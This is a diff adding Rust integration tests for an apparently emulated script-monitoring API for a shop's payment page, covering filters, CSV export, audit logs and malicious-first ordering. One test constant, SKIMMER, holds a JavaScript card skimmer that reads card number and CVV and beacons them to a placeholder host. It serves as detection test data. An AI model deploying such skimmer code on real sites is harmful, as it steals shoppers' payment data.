@@ -13,6 +13,7 @@ use axum::http::{Method, Request, StatusCode};
 use serde_json::{Value, json};
 use service::{Config, Scope, Service};
 use tower::ServiceExt as _;
+use verdict::Timestamp;
 
 /// A service over a folder of its own.
 struct Shop {
@@ -91,13 +92,18 @@ fn seen(count: usize) -> String {
                 "kind": "script",
                 "url": format!("https://cdn{}.widget.example/lib-{}.js", number % 3, letters(number)),
                 "page_url": "https://shop.example/pay",
-                "seen_at": format!("2026-11-28T08:{:02}:00Z", number % 60),
+                "seen_at": minutes_ago(60 - (number % 60) as u64),
                 "text": format!("rate({number})"),
             });
             lines.push_str(&format!("{line}\n"));
         }
     }
     lines
+}
+
+fn minutes_ago(minutes: u64) -> String {
+    let at = std::time::SystemTime::now() - Duration::from_secs(60 * minutes);
+    Timestamp::from(at).to_string()
 }
 
 /// A name that no counter is in.
@@ -323,4 +329,253 @@ async fn a_token_of_one_site_reads_nothing_of_another() {
     let (there, _) = shop.send_as(&other, Method::GET, &format!("{ZONE}/scripts"), "").await;
     let (not, _) = shop.send_as(&other, Method::GET, "/client/v4/zones/none/page_shield/scripts", "").await;
     assert_eq!(there, not);
+}
+
+/// A script and a connection on two pages, one of them at a port.
+fn addresses() -> String {
+    let script =
+        |url: &str, page: &str| json!({"kind": "script", "url": url, "page_url": page}).to_string() + "\n";
+    let first = script("https://cdn.widget.example:8443/a,b.js", "https://shop.example/pay/card");
+    let second = script("https://other.example/c%20d.js", "https://shop.example/");
+    first.repeat(3) + &second.repeat(3)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn patterns_are_of_hosts_with_ports_and_of_pages_without_a_scheme() {
+    let shop = Shop::new().await;
+    shop.observe(addresses(), 2).await;
+    for (query, count) in [
+        ("hosts=cdn.widget.example", 1),
+        ("hosts=CDN.widget.example", 1),
+        ("hosts=cdn.widget.example:8443", 1),
+        ("hosts=cdn.widget.example:443", 0),
+        ("hosts=other.example:443", 1),
+        ("hosts=*.widget.example:*,other.example", 2),
+        ("hosts=widget", 0),
+        ("hosts=*widget*", 1),
+        ("page_url=shop.example/pay/card", 1),
+        ("page_url=shop.example/pay", 0),
+        ("page_url=shop.example/*", 2),
+        ("page_url=shop.example", 1),
+        ("page_url=https://shop.example", 1),
+        ("page_url=https://shop.example/pay/card", 1),
+        ("page_url=http://shop.example/pay/card", 0),
+        ("page_url=*/card", 1),
+        ("page_url=*pay*", 1),
+        ("page_url=nothing,*/card", 1),
+        // Commas divide, so that clients encode those of a URL by themselves.
+        ("urls=a%252Cb", 1),
+        ("exclude_urls=a%252Cb", 1),
+        ("urls=c%2520d.js", 1),
+        ("urls=https%253A%252F%252Fother", 1),
+        ("per_page=1.0&page=2", 2),
+    ] {
+        let found = shop.get(&format!("/scripts?{query}")).await;
+        assert_eq!(found["result_info"]["total_count"], count, "{query}");
+    }
+    for per_page in ["0", "-1", "1.5", "NaN", "1e2"] {
+        let path = format!("{ZONE}/scripts?per_page={per_page}");
+        let (status, _) = shop.send(Method::GET, &path, Body::empty()).await;
+        assert_eq!(status, StatusCode::BAD_REQUEST, "{per_page}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_exported_list_has_the_fields_of_the_list() {
+    let shop = Shop::new().await;
+    shop.observe(addresses() + &json!({"kind": "connection", "url": "wss://chat.example/"}).to_string(), 3)
+        .await;
+    for (path, fields, rows) in [
+        ("scripts?export=csv", 19, 2),
+        ("scripts?export=csv&per_page=1&page=2", 19, 2),
+        ("connections?export=csv&status=all", 13, 1),
+    ] {
+        let (status, csv) = shop.send(Method::GET, &format!("{ZONE}/{path}"), Body::empty()).await;
+        assert_eq!(status, StatusCode::OK);
+        let mut lines = csv.lines();
+        let header: Vec<&str> = lines.next().unwrap().split(',').collect();
+        assert_eq!((header.len(), &header[..3]), (fields, &["id", "host", "url"][..]), "{path}");
+        // There is no boolean `malicious` in this API.
+        assert!(!header.contains(&"malicious") && !header.contains(&"status"), "{header:?}");
+        assert_eq!(lines.count(), rows, "{path}: {csv}");
+    }
+    let (_, csv) = shop.send(Method::GET, &format!("{ZONE}/scripts?export=csv"), Body::empty()).await;
+    assert!(csv.contains(",\"https://cdn.widget.example:8443/a,b.js\",false,"), "{csv}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_change_is_in_the_audit_log() {
+    let shop = Shop::new().await;
+    shop.observe(seen(1), 1).await;
+    let policy = json!({
+        "action": "log", "description": "all", "enabled": true, "value": "script-src 'self'", "expression": "true",
+    });
+    let put = json!({"use_connection_url_path": true}).to_string();
+    assert_eq!(shop.send(Method::PUT, ZONE, put).await.0, StatusCode::OK);
+    let (_, made) = shop.send(Method::POST, &format!("{ZONE}/policies"), policy.to_string()).await;
+    let id = serde_json::from_str::<Value>(&made).unwrap()["result"]["id"].as_str().unwrap().to_owned();
+    let path = format!("{ZONE}/policies/{id}");
+    assert_eq!(shop.send(Method::PUT, &path, r#"{"enabled": false}"#).await.0, StatusCode::OK);
+    assert_eq!(shop.send(Method::DELETE, &path, "").await.0, StatusCode::NO_CONTENT);
+    // What was refused is no change.
+    assert_eq!(shop.send(Method::PUT, &path, r#"{"enabled": true}"#).await.0, StatusCode::NOT_FOUND);
+    assert_eq!(shop.send(Method::PUT, ZONE, r#"{"enabled": 3}"#).await.0, StatusCode::BAD_REQUEST);
+    let (_, log) = shop.send(Method::GET, "/api/v1/sites/shop/audit", "").await;
+    let log: Value = serde_json::from_str(&log).unwrap();
+    let entries = log["entries"].as_array().unwrap();
+    let said: Vec<_> = entries.iter().rev().map(|entry| entry["action"].as_str().unwrap()).collect();
+    assert_eq!(said, ["site_settings", "policy_add", "policy_change", "policy_remove"], "{log}");
+    let details = |place: usize| &entries[entries.len() - 1 - place]["details"];
+    assert_eq!(
+        (&details(0)["before"]["use_connection_url_path"], &details(0)["after"]["use_connection_url_path"]),
+        (&json!(false), &json!(true))
+    );
+    assert_eq!((&details(1)["before"], &details(1)["after"]["value"]), (&Value::Null, &policy["value"]));
+    assert_eq!(
+        (&details(2)["before"]["enabled"], &details(2)["after"]["enabled"]),
+        (&json!(true), &json!(false))
+    );
+    assert_eq!((&entries[0]["subject"], &details(3)["after"]), (&json!(id), &Value::Null));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn bodies_that_are_no_object_of_this_shape_change_nothing() {
+    let shop = Shop::new().await;
+    shop.observe(seen(1), 1).await;
+    let before = shop.get("").await["result"].clone();
+    for wrong in
+        ["", "null", "[]", "[false, true, true]", "\"x\"", "{", "{\"enabled\": \"no\"}", "{\"enabled\": 0}"]
+    {
+        for (method, path) in [(Method::PUT, ZONE.to_owned()), (Method::POST, format!("{ZONE}/policies"))] {
+            let (status, text) = shop.send(method.clone(), &path, wrong).await;
+            assert_eq!(status, StatusCode::BAD_REQUEST, "{method} {wrong}: {text}");
+            assert_eq!(serde_json::from_str::<Value>(&text).unwrap()["success"], false, "{text}");
+        }
+    }
+    let five = r#"["log", "all", true, "true", "script-src 'self'"]"#;
+    assert_eq!(shop.send(Method::POST, &format!("{ZONE}/policies"), five).await.0, StatusCode::BAD_REQUEST);
+    assert_eq!(shop.get("").await["result"], before);
+    assert_eq!(shop.get("/policies").await["result"], json!([]));
+    // What is left out stays, and what is unknown is passed over.
+    let put = r#"{"use_cloudflare_reporting_endpoint": true, "of_tomorrow": 1}"#;
+    assert_eq!(shop.send(Method::PUT, ZONE, put).await.0, StatusCode::OK);
+    let after = shop.get("").await["result"].clone();
+    assert_eq!(
+        (&after["enabled"], &after["use_cloudflare_reporting_endpoint"], &after["use_connection_url_path"]),
+        (&json!(true), &json!(true), &json!(false))
+    );
+}
+
+fn connection(url: &str) -> String {
+    format!("{}\n", json!({"kind": "connection", "url": url, "page_url": "https://shop.example/pay"}))
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn connections_are_kept_by_their_url_while_that_is_switched_on() {
+    let shop = Shop::new().await;
+    let known = async || {
+        let answer = shop.get("/connections?status=all&direction=asc&order_by=first_seen_at").await;
+        urls(&answer).into_iter().map(str::to_owned).collect::<Vec<_>>()
+    };
+    shop.observe(connection("https://api.widget.example/v1/pay"), 1).await;
+    assert_eq!(known().await, ["https://api.widget.example"]);
+    let switch = |on: bool| json!({"use_connection_url_path": on}).to_string();
+    assert_eq!(shop.send(Method::PUT, ZONE, switch(true)).await.0, StatusCode::OK);
+    shop.observe(
+        connection("https://api.widget.example/v1/pay") + &connection("https://api.widget.example/v2"),
+        3,
+    )
+    .await;
+    let mut both = known().await;
+    both.sort();
+    assert_eq!(
+        both,
+        ["https://api.widget.example", "https://api.widget.example/v1/pay", "https://api.widget.example/v2"]
+    );
+    assert_eq!(shop.send(Method::PUT, ZONE, switch(false)).await.0, StatusCode::OK);
+    shop.observe(connection("https://api.widget.example/v3") + &connection("https://late.example/v3"), 4)
+        .await;
+    let urls = known().await;
+    assert!(urls.iter().any(|url| url == "https://late.example"), "{urls:?}");
+    assert!(!urls.iter().any(|url| url.ends_with("/v3")), "{urls:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_site_that_is_switched_off_takes_nothing_in() {
+    let shop = Shop::new().await;
+    shop.observe(seen(1), 1).await;
+    let switch = |on: bool| json!({"enabled": on}).to_string();
+    assert_eq!(shop.send(Method::PUT, ZONE, switch(false)).await.0, StatusCode::OK);
+    shop.observe(connection("https://off.example/"), 1).await;
+    let applied = async || {
+        let (_, text) = shop.send(Method::GET, "/status", "").await;
+        text
+    };
+    for round in 0.. {
+        if applied().await.contains("switched_off") {
+            break;
+        }
+        assert!(round < 1_500, "{}", applied().await);
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    assert_eq!(shop.get("/connections?status=all").await["result"], json!([]));
+    assert_eq!(urls(&shop.get("/scripts").await).len(), 1);
+    assert_eq!(shop.send(Method::PUT, ZONE, switch(true)).await.0, StatusCode::OK);
+    shop.observe(connection("https://on.example/"), 2).await;
+    assert_eq!(urls(&shop.get("/connections?status=all").await), ["https://on.example"]);
+}
+
+/// Sends nothing: the host does not exist, and nobody runs it.
+const SKIMMER: &str = "document.querySelector('#pay').addEventListener('click', function () {\
+    var card = { cc_number: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value };\
+    new Image().src = '//collect.invalid/p.gif?d=' + btoa(JSON.stringify(card));\
+});";
+
+#[tokio::test(flavor = "multi_thread")]
+async fn malicious_ones_come_first_and_duplicates_once() {
+    let shop = Shop::new().await;
+    let seen = |name: &str, minutes: u64, text: &str, times: usize| {
+        let url = format!("https://cdn.widget.example/{name}.js");
+        let line = json!({
+            "kind": "script", "url": url, "page_url": "https://shop.example/pay", "text": text, "seen_at": minutes_ago(minutes),
+        });
+        format!("{line}\n").repeat(times)
+    };
+    // Two with the same content on the same host, another, and a malicious one that is seldom seen.
+    let lines = seen("bad", 50, SKIMMER, 1)
+        + &seen("early", 40, "rate(1)", 3)
+        + &seen("late", 20, "rate(1)", 3)
+        + &seen("cdn-cgi/own", 10, "rate(3)", 3)
+        + &seen("other", 30, "rate(2)", 3);
+    shop.observe(lines, 5).await;
+    let names = async |query: &str| {
+        let answer = shop.get(&format!("/scripts?{query}")).await;
+        let name = |url: &str| url.rsplit('/').next().unwrap().trim_end_matches(".js").to_owned();
+        let names: Vec<String> = urls(&answer).into_iter().map(name).collect();
+        (names.join(" "), answer["result_info"]["total_count"].as_u64().unwrap())
+    };
+    for (query, want, total) in [
+        ("", "bad late other early", 4),
+        ("direction=asc", "bad early other late", 4),
+        ("prioritize_malicious=true&order_by=first_seen_at", "bad late other early", 4),
+        ("prioritize_malicious=false", "late other early bad", 4),
+        ("prioritize_malicious=false&direction=asc&order_by=first_seen_at", "bad early other late", 4),
+        ("exclude_duplicates=true", "bad late other", 3),
+        ("exclude_duplicates=true&direction=asc", "bad other late", 3),
+        ("exclude_duplicates=true&urls=early", "early", 1),
+        ("exclude_cdn_cgi=false", "bad own late other early", 5),
+        // A status never hides what is malicious.
+        ("status=inactive", "bad", 1),
+        ("status=infrequent,inactive", "bad", 1),
+        ("status=all&per_page=2&page=1", "bad late", 4),
+        ("status=all&per_page=2&page=2", "other early", 4),
+        ("per_page=3&page=2", "early", 4),
+        ("per_page=3&page=3", "", 4),
+        ("per_page=50001&page=18446744073709551615", "", 4),
+        ("page=all&per_page=1", "bad late other early", 4),
+    ] {
+        assert_eq!(names(query).await, (want.to_owned(), total), "{query}");
+    }
+    let id = shop.get("/scripts?urls=own&exclude_cdn_cgi=0").await["result"][0].clone();
+    assert_eq!(id["url_contains_cdn_cgi_path"], true);
 }
